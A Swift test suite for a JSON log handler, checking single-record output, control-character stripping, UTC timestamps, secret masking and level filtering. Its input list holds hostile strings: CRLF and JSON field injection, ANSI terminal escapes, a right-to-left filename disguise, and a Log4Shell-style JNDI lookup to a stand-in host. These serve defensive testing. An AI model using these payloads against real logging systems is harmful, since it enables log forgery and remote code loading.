import Foundation
import Identity
import Logging
import Synchronization
import Testing

@testable import aikagi

@Suite struct `The log` {
    /// What strangers may send to be logged.
    static let hostile = [
        "line\r\n{\"level\":\"info\"}", "\u{1B}[2J\u{1B}]0;title\u{07}", "\",\"admin\":\"true",
        "${jndi:ldap://evil.test/x}",
        "abc\u{202E}fdp.exe", "\u{2028}\u{2029}\u{85}", "\u{0}\u{7F}\u{9B}31m", "\\u000a", "é合鍵🗝",
        String(repeating: "A", count: 1_000_000), "\u{E0001}\u{FEFF}\u{200B}",
    ]

    @Test(arguments: hostile)
    func `ADM-10: makes one record of one message, whatever stands in its fields`(text: String) throws {
        let lines = Lines()
        let logger = lines.logger()
        logger.warning(
            "\(text)", metadata: ["\(text)": "\(text)", "deep": ["\(text)": .array([.string(text)])]])
        let line = try #require(lines.all.first)
        #expect(lines.all.count == 1)
        #expect(line.last == "\n" && line.filter(\.isNewline).count == 1)
        #expect(line.utf8.count < 60_000)
        for scalar in line.dropLast().unicodeScalars {
            let category = scalar.properties.generalCategory
            #expect(![.control, .format, .lineSeparator, .paragraphSeparator].contains(category), "\(scalar.value)")
        }
        let record = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        #expect((record["message"] as? String)?.hasPrefix(String(text.prefix(4_000))) == true)
        #expect(record["level"] as? String == "warning")
        #expect(Set(record.keys).isSuperset(of: ["time", "level", "logger", "message"]) && record.count == 6)
    }

    @Test func `ADM-21: gives the time in UTC, to the millisecond, in one form`() throws {
        let lines = Lines()
        lines.logger().info("hello")
        #expect(
            lines.all == [
                "{\"time\":\"2026-11-22T13:34:07.125Z\",\"level\":\"info\",\"logger\":\"test\",\"message\":\"hello\"}\n"
            ])
    }

    @Test func `ADM-11: prints a mark in place of a secret`() throws {
        let lines = Lines()
        let secret = Secret("canary")
        lines.logger().error("\(secret)", metadata: ["secret": "\(secret)", "list": ["\([secret])"]])
        let line = try #require(lines.all.first)
        #expect(!line.contains("canary") && line.contains("‹secret›"))
    }

    @Test func `leaves out what is less important than its level`() {
        let lines = Lines()
        let logger = lines.logger(level: .warning)
        logger.info("no")
        logger.warning("yes")
        #expect(lines.all.count == 1)
    }
}

/// Collects what is logged.
private final class Lines: Sendable {
    private let collected = Mutex<[String]>([])

    var all: [String] { collected.withLock { $0 } }

    func logger(level: Logger.Level = .trace) -> Logger {
        let output = LogOutput { line in self.collected.withLock { $0.append(line) } }
        return Logger(label: "test") {
            JSONLogHandler(label: $0, logLevel: level, time: FixedTime(), output: output)
        }
    }

    private struct FixedTime: TimeSource {
        func now() -> Moment { Moment(millisecondsSinceEpoch: 1_795_354_447_125) }
    }
}
